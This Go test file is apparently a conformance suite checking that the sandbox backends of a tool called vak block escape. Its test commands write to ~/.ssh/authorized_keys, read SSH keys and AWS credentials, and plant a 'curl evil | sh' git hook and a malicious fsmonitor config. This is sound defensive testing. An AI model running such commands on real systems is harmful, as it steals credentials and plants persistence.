package sandboxtest

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"vak/internal/hostenv"
	"vak/internal/sandbox"
	"vak/internal/worker/wire"
)

// Run runs the conformance suite against a backend.
func Run(t *testing.T, b Backend) {
	runCommandChecks(t, b)
	t.Run("HostSide", func(t *testing.T) { runHostSide(t, b) })
	t.Run("Hardening", func(t *testing.T) { runHardening(t, b) })
}

// runCommandChecks are the checks a command attempts itself: files,
// secrets, network, sockets, mode, timeouts, environment, protected paths.
func runCommandChecks(t *testing.T, b Backend) {
	t.Run("WorkspaceWriteVisible", func(t *testing.T) { testWorkspaceWrite(t, b) })
	t.Run("WriteOutsideWorkspaceFails", func(t *testing.T) { testWriteOutside(t, b) })
	t.Run("ReadPlantedSecretFails", func(t *testing.T) { testReadSecret(t, b) })
	t.Run("NetworkConnectFails", func(t *testing.T) { testNetwork(t, b) })
	t.Run("UnixSocketOutsideUnreachable", func(t *testing.T) { testUnixSocket(t, b) })
	t.Run("ReadOnlyEnforced", func(t *testing.T) { testReadOnly(t, b) })
	t.Run("TimeoutKillsProcessTree", func(t *testing.T) { testTimeoutTree(t, b) })
	t.Run("EnvScrubbed", func(t *testing.T) { testEnv(t, b) })
	t.Run("ProtectedPaths", func(t *testing.T) { testProtected(t, b) })
}

// RunContainment is the subset of Run for another container runtime
// under a backend Run already covers (gVisor under the docker backend):
// every check a command itself attempts (files, network, sockets, mode,
// timeouts, environment, protected paths, hardening) and the host-side
// ones whose outcome depends on how the runtime presents the mounts (a
// planted link, a pinned .git, setuid files, auto-run files). The rest of
// the host side is host code the runtime does not change.
func RunContainment(t *testing.T, b Backend) {
	runCommandChecks(t, b)
	t.Run("HostSide", func(t *testing.T) {
		t.Run("PlantedLinkNotMounted", func(t *testing.T) { testPlantedLinkNotMounted(t, b) })
		t.Run("GitCannotBeSwapped", func(t *testing.T) { testGitSwap(t, b) })
		t.Run("AutoRunFilesCreated", func(t *testing.T) { testAutoRunCreated(t, b) })
		t.Run("SetuidFiles", func(t *testing.T) { testSetuid(t, b) })
	})
	t.Run("Hardening", func(t *testing.T) { runHardening(t, b) })
}

// RunBashOnly runs the conformance suite with bash-only sessions
// (broker.Options.BashOnly, what vak run starts): a command-scoped backend
// then runs its commands without a worker process. Checks of the file
// tools, which such a session has none of, are left out.
func RunBashOnly(t *testing.T, b Backend) {
	bashOnly = true
	defer func() { bashOnly = false }()
	Run(t, b)
}

func testWorkspaceWrite(t *testing.T, b Backend) {
	e := NewEnv(t, b)
	s := e.Start(sandbox.WorkspaceWrite)
	res := Sh(t, s, `echo from-sandbox > out.txt && mkdir -p sub/dir && echo nested > sub/dir/f && pwd`)
	if res.ExitCode != 0 {
		t.Fatalf("exit %d: %s", res.ExitCode, res.Stderr)
	}
	if strings.TrimSpace(res.Stdout) != e.Workspace {
		t.Errorf("pwd = %q, want the workspace's own path %q", res.Stdout, e.Workspace)
	}
	for p, want := range map[string]string{"out.txt": "from-sandbox\n", "sub/dir/f": "nested\n"} {
		data, err := os.ReadFile(filepath.Join(e.Workspace, p))
		if err != nil || string(data) != want {
			t.Errorf("host sees %s = %q, %v", p, data, err)
		}
		fi, _ := os.Stat(filepath.Join(e.Workspace, p))
		if uid := ownerUID(fi); uid != os.Getuid() {
			t.Errorf("%s owned by uid %d, want the invoking uid %d", p, uid, os.Getuid())
		}
	}
}

func testWriteOutside(t *testing.T, b Backend) {
	e := NewEnv(t, b)
	s := e.Start(sandbox.WorkspaceWrite)
	targets := []string{
		filepath.Join(e.Outside, "escaped"),
		filepath.Join(e.Home, ".bashrc"),
		filepath.Join(e.Home, ".ssh", "authorized_keys"),
		filepath.Join(e.Workspace, "..", "sibling-escaped"),
		"/etc/vak-escaped",
		"/usr/vak-escaped",
	}
	var cmd strings.Builder
	for _, p := range targets {
		cmd.WriteString("(echo pwned > '" + p + "') 2>/dev/null && echo 'WROTE " + p + "'\n")
	}
	// Through a symlink planted in the workspace, too.
	cmd.WriteString("ln -s '" + e.Outside + "' out-link; (echo pwned > out-link/via-link) 2>/dev/null && echo WROTE via-link\n")
	cmd.WriteString("echo ok > inside && echo CONTROL-OK\n")
	res := Sh(t, s, cmd.String())
	if !strings.Contains(res.Stdout, "CONTROL-OK") {
		t.Fatalf("control write inside the workspace failed: %s %s", res.Stdout, res.Stderr)
	}
	for _, p := range append(targets, filepath.Join(e.Outside, "via-link")) {
		if _, err := os.Stat(p); err == nil {
			t.Errorf("sandbox wrote %s on the host", p)
		}
	}
	// The targets are writable without the sandbox (the attempt was real).
	if err := os.WriteFile(filepath.Join(e.Outside, "control"), []byte("x"), 0o644); err != nil {
		t.Fatalf("outside dir not writable even on the host: %v", err)
	}
}

func testReadSecret(t *testing.T, b Backend) {
	e := NewEnv(t, b)
	if data, err := os.ReadFile(e.Secret); err != nil || !strings.Contains(string(data), e.Marker) {
		t.Fatalf("planted secret unreadable on the host: %v", err)
	}
	os.Symlink(e.Secret, filepath.Join(e.Workspace, "key-link"))
	os.Symlink(e.Home, filepath.Join(e.Workspace, "home-link"))
	s := e.Start(sandbox.WorkspaceWrite)
	res := Sh(t, s, strings.Join([]string{
		"cat '" + e.Secret + "'",
		"cat ~/.ssh/id_ed25519 ~/.aws/credentials",
		"cat key-link home-link/.aws/credentials",
		"cat /proc/self/root'" + e.Secret + "'",
		"cat '" + e.Workspace + "/../home/.ssh/id_ed25519'",
		"grep -rs VAK-SECRET '" + e.Home + "' '" + filepath.Dir(e.Workspace) + "' /tmp /root /home 2>/dev/null | head -5",
		"echo CONTROL-RAN",
	}, "; "))
	if !strings.Contains(res.Stdout, "CONTROL-RAN") {
		t.Fatalf("command did not run: %s", res.Stderr)
	}
	if strings.Contains(res.Stdout+res.Stderr, e.Marker) {
		t.Fatalf("the sandbox read the planted secret:\n%s\n%s", res.Stdout, res.Stderr)
	}
	if s.Client() == nil {
		return // a bash-only session has no file tools
	}
	// The file tools refuse it too.
	for _, p := range []string{e.Secret, "key-link", "home-link/.aws/credentials", "../home/.ssh/id_ed25519", "/proc/self/root" + e.Secret} {
		var r wire.ReadResult
		err := s.Client().Call(t.Context(), wire.OpRead, wire.ReadArgs{Path: p}, &r)
		if err == nil || strings.Contains(r.Content, e.Marker) {
			t.Errorf("read tool on %q: err=%v content=%q", p, err, r.Content)
		}
	}
}

func testNetwork(t *testing.T, b Backend) {
	e := NewEnv(t, b)
	loop := Listen(t, "127.0.0.1:0")
	ext := Listen(t, NonLoopbackIP(t)+":0")
	targets := []*Listener{loop, ext}
	for _, l := range targets {
		if out := HostProbe(t, e, "connect", l.Addr().String(), "3s"); !strings.Contains(out, "OK") {
			t.Fatalf("control: probe on the host cannot reach %s: %s", l.Addr(), out)
		}
		l.WaitAccepted(t, 1) // the control is counted before the baseline is taken
	}
	before := loop.Accepted.Load() + ext.Accepted.Load()
	s := e.Start(sandbox.WorkspaceWrite)
	var cmd strings.Builder
	for _, l := range targets {
		cmd.WriteString("./probe connect " + l.Addr().String() + " 3s; ")
	}
	cmd.WriteString("./probe connect 1.1.1.1:443 3s; ./probe udp 1.1.1.1:53 2s; ./probe resolve example.com; echo CONTROL-RAN")
	res := Sh(t, s, cmd.String())
	if !strings.Contains(res.Stdout, "CONTROL-RAN") || !strings.Contains(res.Stdout, "FAIL") {
		t.Fatalf("probe did not run: %s %s", res.Stdout, res.Stderr)
	}
	if strings.Contains(res.Stdout, "OK") {
		t.Fatalf("network reachable from the sandbox:\n%s", res.Stdout)
	}
	time.Sleep(100 * time.Millisecond)
	if n := loop.Accepted.Load() + ext.Accepted.Load(); n != before {
		t.Fatalf("host listeners accepted %d connections from the sandbox", n-before)
	}
}

func testUnixSocket(t *testing.T, b Backend) {
	e := NewEnv(t, b)
	sock := filepath.Join(e.Outside, "daemon.sock")
	ln := listenUnix(t, sock)
	if out := HostProbe(t, e, "unix", sock); !strings.Contains(out, "OK") {
		t.Fatalf("control: host cannot reach %s: %s", sock, out)
	}
	ln.WaitAccepted(t, 1) // the control is counted before the baseline is taken
	before := ln.Accepted.Load()
	s := e.Start(sandbox.WorkspaceWrite)
	res := Sh(t, s, "./probe unix '"+sock+"'; ./probe unix /var/run/docker.sock; ./probe unix /run/docker.sock; echo CONTROL-RAN")
	if !strings.Contains(res.Stdout, "CONTROL-RAN") || strings.Contains(res.Stdout, "OK") {
		t.Fatalf("unix socket outside the workspace reachable (or probe did not run):\n%s\n%s", res.Stdout, res.Stderr)
	}
	if ln.Accepted.Load() != before {
		t.Fatal("the host socket accepted a connection from the sandbox")
	}
}

func testReadOnly(t *testing.T, b Backend) {
	e := NewEnv(t, b)
	keep := filepath.Join(e.Workspace, "keep.txt")
	os.WriteFile(keep, []byte("original"), 0o666)
	s := e.Start(sandbox.ReadOnly)
	res := Sh(t, s, `(echo evil > keep.txt) 2>/dev/null && echo WROTE; (echo evil > new.txt) 2>/dev/null && echo CREATED; rm -f keep.txt 2>/dev/null && echo REMOVED; cat keep.txt; echo tmp > "$TMPDIR/t" && echo TMP-OK`)
	if strings.Contains(res.Stdout, "WROTE") || strings.Contains(res.Stdout, "CREATED") || strings.Contains(res.Stdout, "REMOVED") {
		t.Fatalf("read-only mode allowed a write: %s", res.Stdout)
	}
	if !strings.Contains(res.Stdout, "original") || !strings.Contains(res.Stdout, "TMP-OK") {
		t.Fatalf("control failed (workspace unreadable or no private tmp): %s %s", res.Stdout, res.Stderr)
	}
	if data, _ := os.ReadFile(keep); string(data) != "original" {
		t.Fatalf("keep.txt changed to %q", data)
	}
	if _, err := os.Stat(filepath.Join(e.Workspace, "new.txt")); err == nil {
		t.Fatal("new.txt created in read-only mode")
	}
	if s.Client() == nil {
		return // a bash-only session has no file tools
	}
	// The write tools refuse as well.
	err := s.Client().Call(t.Context(), wire.OpWrite, wire.WriteArgs{Path: "keep.txt", Content: "evil"}, nil)
	if !isCode(err, wire.CodeReadOnly) {
		t.Fatalf("write tool in read-only mode: %v", err)
	}
}

// testTimeoutTree: a timeout, and a cancel, kill the command's whole
// tree, also the processes that left its session: heartbeats of a plain
// background job, one in its own process group (job control), one in a
// session of its own (setsid), one two sessions down whose parents are
// gone (an orphan, no longer below the command by parent links), and one
// whose setsid came from a thread that is not its process's first. Each
// really beat first (the control: the sessions were made), and afterwards
// no process of the command is left alive.
func testTimeoutTree(t *testing.T, b Backend) {
	e := NewEnv(t, b)
	s := e.Start(sandbox.WorkspaceWrite)
	for _, kill := range []string{"timeout", "cancel"} {
		t.Run(kill, func(t *testing.T) {
			tag := "tree" + strconv.FormatInt(time.Now().UnixNano(), 36)
			hb := func(kind string) string { return "hb-" + tag + "-" + kind }
			kinds := []string{"plain", "pgrp", "session", "orphan", "thread"}
			cmd := fmt.Sprintf(`
beat() { while :; do date +%%s%%N > "$1"; sleep 0.05; done; }
beat %[1]s &
set -m; beat %[2]s & set +m
setsid sh -c 'while :; do date +%%s%%N > %[3]s; sleep 0.05; done' &
(setsid sh -c 'setsid sh -c "while :; do date +%%s%%N > %[4]s; sleep 0.05; done" &' &)
./probe setsid-beat %[5]s &
while [ ! -s %[1]s ] || [ ! -s %[2]s ] || [ ! -s %[3]s ] || [ ! -s %[4]s ] || [ ! -s %[5]s ]; do sleep 0.05; done
echo ALL-BEATING
sleep 1000`, hb(kinds[0]), hb(kinds[1]), hb(kinds[2]), hb(kinds[3]), hb(kinds[4]))
			beating := func() bool {
				for _, k := range kinds {
					if fi, err := os.Stat(filepath.Join(e.Workspace, hb(k))); err != nil || fi.Size() == 0 {
						return false
					}
				}
				return true
			}
			a := wire.BashArgs{Command: cmd}
			ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
			defer cancel()
			sawBeats := make(chan bool, 1)
			if kill == "timeout" {
				// Generous: the timeout must not fire before a slow
				// container starts.
				a.TimeoutMS = 10000
			} else {
				go func() {
					sawBeats <- waitUntil(ctx, beating)
					cancel()
				}()
			}
			res, err := s.Bash(ctx, a, nil)
			// The beats ran (so they were real and the sessions made)
			// before the kill ...
			switch {
			case kill == "timeout" && (err != nil || !res.TimedOut):
				t.Fatalf("the command was not reported timed out: %+v %v", res, err)
			case kill == "timeout" && !strings.Contains(res.Stdout, "ALL-BEATING"):
				t.Fatalf("not every heartbeat beat before the timeout: the test proves nothing (%+v)", res)
			case kill == "cancel" && err == nil && !res.Canceled:
				t.Fatalf("the command was not canceled: %+v", res)
			case kill == "cancel" && !<-sawBeats:
				t.Fatal("not every heartbeat beat before the cancel: the test proves nothing")
			}
			// ... and no process of the command is left.
			waitGone(t, tag)
		})
	}
	// The worker still serves.
	if r := Sh(t, s, "echo alive"); strings.TrimSpace(r.Stdout) != "alive" {
		t.Fatalf("worker unusable after the kills: %+v", r)
	}
}

func testEnv(t *testing.T, b Backend) {
	t.Setenv("VAK_TEST_API_TOKEN", "tok-should-not-leak")
	t.Setenv("AWS_SECRET_ACCESS_KEY", "aws-should-not-leak")
	t.Setenv("SSH_AUTH_SOCK", "/tmp/ssh-should-not-leak")
	// Every backend passes the same host variables (hostenv.Allowlist):
	// each one set here, with a value no image or default sets, reaches
	// the command.
	want := map[string]string{"LANG": "C.UTF-8", "LC_ALL": "C.UTF-8"}
	for _, n := range hostenv.Allowlist() {
		if want[n] == "" {
			want[n] = "vaktest-" + n
		}
		t.Setenv(n, want[n])
	}
	e := NewEnv(t, b)
	s := e.Start(sandbox.WorkspaceWrite)
	res := Sh(t, s, "env")
	got := strings.Split(res.Stdout, "\n")
	if !slices.Contains(got, "LANG=C.UTF-8") {
		t.Fatalf("allowlisted variable missing, so env did not run properly: %s", res.Stdout)
	}
	for n, v := range want {
		if !slices.Contains(got, n+"="+v) {
			t.Errorf("allowlisted host variable %s=%s did not reach the command: %s", n, v, res.Stdout)
		}
	}
	for _, leak := range []string{"tok-should-not-leak", "aws-should-not-leak", "ssh-should-not-leak"} {
		if strings.Contains(res.Stdout, leak) {
			t.Errorf("host variable leaked into the sandbox: %s", leak)
		}
	}
}

func testProtected(t *testing.T, b Backend) {
	e := NewEnv(t, b)
	hooks := filepath.Join(e.Workspace, ".git", "hooks")
	os.MkdirAll(hooks, 0o755)
	os.WriteFile(filepath.Join(e.Workspace, ".git", "config"), []byte("[core]\n"), 0o644)
	s := e.Start(sandbox.WorkspaceWrite)
	res := Sh(t, s, `
(echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit) 2>/dev/null && echo PLANTED-HOOK
(echo '[core] fsmonitor = evil' >> .git/config) 2>/dev/null && echo EDITED-CONFIG
(mkdir -p .vak && echo 'version = 1' > .vak/config.toml) 2>/dev/null && echo PLANTED-VAK
echo fine > .git/description && echo CONTROL-OK`)
	if !strings.Contains(res.Stdout, "CONTROL-OK") {
		t.Fatalf("control write in .git failed: %s %s", res.Stdout, res.Stderr)
	}
	if _, err := os.Stat(filepath.Join(hooks, "pre-commit")); err == nil {
		t.Error("a hook was planted in .git/hooks")
	}
	if data, _ := os.ReadFile(filepath.Join(e.Workspace, ".git", "config")); string(data) != "[core]\n" {
		t.Errorf(".git/config was modified: %q", data)
	}
	if _, err := os.Stat(filepath.Join(e.Workspace, ".vak", "config.toml")); err == nil {
		t.Error(".vak/config.toml was planted and survived the command")
	}
	if strings.Contains(res.Stdout, "PLANTED-VAK") && !contains(res.ProtectedRemoved, ".vak") {
		t.Errorf("created .vak was not reported as removed: %+v", res.ProtectedRemoved)
	}
	if s.Client() == nil {
		return // a bash-only session has no file tools
	}
	// The file tools refuse, including paths that do not exist yet.
	for _, p := range []string{".git/hooks/post-checkout", ".git/config", ".vak/config.toml", "./.vak//x"} {
		err := s.Client().Call(t.Context(), wire.OpWrite, wire.WriteArgs{Path: p, Content: "x"}, nil)
		if !isCode(err, wire.CodeProtected) {
			t.Errorf("write tool on %s: %v", p, err)
		}
	}
}

func contains(ss []string, s string) bool {
	for _, x := range ss {
		if x == s {
			return true
		}
	}
	return false
}

func isCode(err error, code string) bool {
	we, ok := err.(*wire.Error)
	return ok && we.Code == code
}
